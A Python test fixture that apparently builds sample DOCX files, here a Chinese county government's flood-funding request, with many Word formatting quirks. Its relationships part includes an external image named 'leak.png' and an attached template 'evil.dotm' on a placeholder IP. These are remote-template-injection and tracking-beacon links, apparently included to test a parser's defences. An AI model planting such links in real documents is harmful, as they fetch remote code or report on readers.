"""Papers as they really come: written by a script, with everything that people and their software do to a DOCX."""

import io
import zipfile

from PIL import Image

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SPACES = (
    f'xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" xmlns:v="urn:schemas-microsoft-com:vml"'
)
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_ROOT = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
_LINKS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId8" Type="image" Target="media/a.png"/>'
    '<Relationship Id="rId9" Type="image" Target="http://203.0.113.1/leak.png" TargetMode="External"/>'
    '<Relationship Id="rId10" Type="attachedTemplate" Target="http://203.0.113.1/evil.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def picture() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG")
    return out.getvalue()


def package(body: str, **parts: str | bytes) -> bytes:
    """A DOCX around a body; further parts of the word folder by name (``numbering`` → word/numbering.xml)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _ROOT)
        archive.writestr("word/document.xml", f"<w:document {SPACES}><w:body>{body}</w:body></w:document>")
        archive.writestr("word/_rels/document.xml.rels", _LINKS)
        archive.writestr("word/media/a.png", picture())
        for name, content in parts.items():
            archive.writestr(f"word/{name}.xml", content)
    return out.getvalue()


def run(text: str, *, size: int = 32, red: bool = False, extra: str = "") -> str:
    colour = '<w:color w:val="FF0000"/>' if red else ""
    return f'<w:r><w:rPr>{extra}{colour}<w:sz w:val="{size}"/></w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def p(*runs: str, align: str = "", extra: str = "") -> str:
    jc = f'<w:jc w:val="{align}"/>' if align else ""
    return (
        f"<w:p><w:pPr>{extra}{jc}</w:pPr>{''.join(item if item.startswith('<') else run(item) for item in runs)}</w:p>"
    )


def table(*rows: list[str]) -> str:
    return "<w:tbl>" + "".join(f"<w:tr>{''.join(row)}</w:tr>" for row in rows) + "</w:tbl>"


def cell(*inside: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{''.join(inside) or p()}</w:tc>"


def box(text: str) -> str:
    """A text box as Word writes it: once for new readers, once more for old ones."""
    inside = f"<w:txbxContent>{p(text)}</w:txbxContent>"
    return (
        "<w:r><mc:AlternateContent><mc:Choice Requires='wps'><w:drawing><wp:anchor><a:graphic><a:graphicData><wps:wsp>"
        f"<wps:txbx>{inside}</wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict><v:shape><v:textbox>{inside}</v:textbox></v:shape></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r>"
    )


def drawing(identity: str, *, floating: bool = False) -> str:
    kind = "anchor" if floating else "inline"
    return (
        f'<w:r><w:drawing><wp:{kind}><wp:extent cx="360000" cy="360000"/><wp:docPr id="1" name="图"/><a:graphic><a:graphicData>'
        f'<a:blip r:embed="{identity}"/></a:graphicData></a:graphic></wp:{kind}></w:drawing></w:r>'
    )


NUMBERING = (
    f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">'
    '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="chineseCountingThousand"/><w:lvlText w:val="%1、"/></w:lvl>'
    '<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="（%2）"/></w:lvl>'
    '</w:abstractNum><w:num w:numId="3"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
)


def numbered(level: int, text: str) -> str:
    return p(text, extra=f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="3"/></w:numPr>')


def upward_report() -> bytes:
    """A joint request: masthead in a grid, tracked changes, automatic numbers, boxes, notes, a merged and a nested table,
    pictures that stay and pictures that float, and the record in a grid."""
    mark = table(
        [cell(p(run("明川县发展和改革局", size=72, red=True))),
         cell(p(run("文件", size=72, red=True)), properties='<w:vMerge w:val="restart"/>')],
        [cell(p(run("明川县财政局", size=72, red=True))), cell(properties="<w:vMerge/>")],
    )  # fmt: skip
    number = table([cell(p("明发改〔2026〕3号")), cell(p("签发人：陈志远　李　明"))])
    change = (
        '<w:del w:id="1" w:author="甲"><w:r><w:delText>一百万元</w:delText></w:r></w:del>'
        f'<w:ins w:id="2" w:author="甲">{run("二百万元")}</w:ins>'
    )
    inner = table([cell(p("内甲")), cell(p("内乙"))], [cell(p("内丙")), cell(p("内丁"))])
    data = table(
        [cell(p("项目"), properties='<w:gridSpan w:val="2"/>'), cell(p("金额"))],
        [cell(p("堤防"), properties='<w:vMerge w:val="restart"/>'), cell(p("加固")), cell(p("80"))],
        [cell(properties="<w:vMerge/>"), cell(inner, p()), cell(p("120"))],
    )
    record = table(
        [cell(p("抄送：市水利局，市应急局。"))], [cell(p("明川县发展和改革局")), cell(p("2026年3月2日印发"))]
    )
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF a </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>见附表</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    body = (
        p(run("000012"), "<w:r><w:tab/></w:r>", run("特急")) + mark + number
        + p(run("关于申请防汛资金", size=44), "<w:r><w:br/></w:r>", run("的请示", size=44), align="center")
        + p("安和市人民政府：")
        + p("今年汛情偏重，拟申请资金", change, "。", field, '<w:r><w:footnoteReference w:id="2"/></w:r>')
        + numbered(0, "基本情况") + numbered(1, "堤防") + numbered(1, "水库") + numbered(0, "资金安排")
        + data
        + p("示意图如下。", box("图注：堤防位置")) + p(drawing("rId8")) + p(drawing("rId9"), drawing("rId8", floating=True))
        + p(run("内部提示不外传", extra="<w:vanish/>"), "公式", "<m:oMath><m:r><m:t>a+b</m:t></m:r></m:oMath>", "成立。")
        + "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>"
        + p("妥否，请批示。") + p("附件：资金测算表")
        + p("明川县发展和改革局　　　明川县财政局", align="right") + p("2026年3月1日", align="right")
        + p("（联系人：王建军，电话：0000）") + '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'
        + p("附件") + p(run("资金测算表", size=44), align="center") + p("略。") + record
        + "<w:sectPr/>"
    )  # fmt: skip
    space = f'xmlns:w="{W}"'
    return package(
        body, numbering=NUMBERING,
        header1=f"<w:hdr {space}>{p('内部资料 注意保存')}</w:hdr>",
        footer1=f"<w:ftr {space}>{p('— 1 —')}</w:ftr>",
        footnotes=f'<w:footnotes {space}><w:footnote w:id="2">{p("数据由水利局提供。")}</w:footnote></w:footnotes>',
        comments=f'<w:comments {space}><w:comment w:id="1">{p("此处再核。")}</w:comment></w:comments>',
    )  # fmt: skip
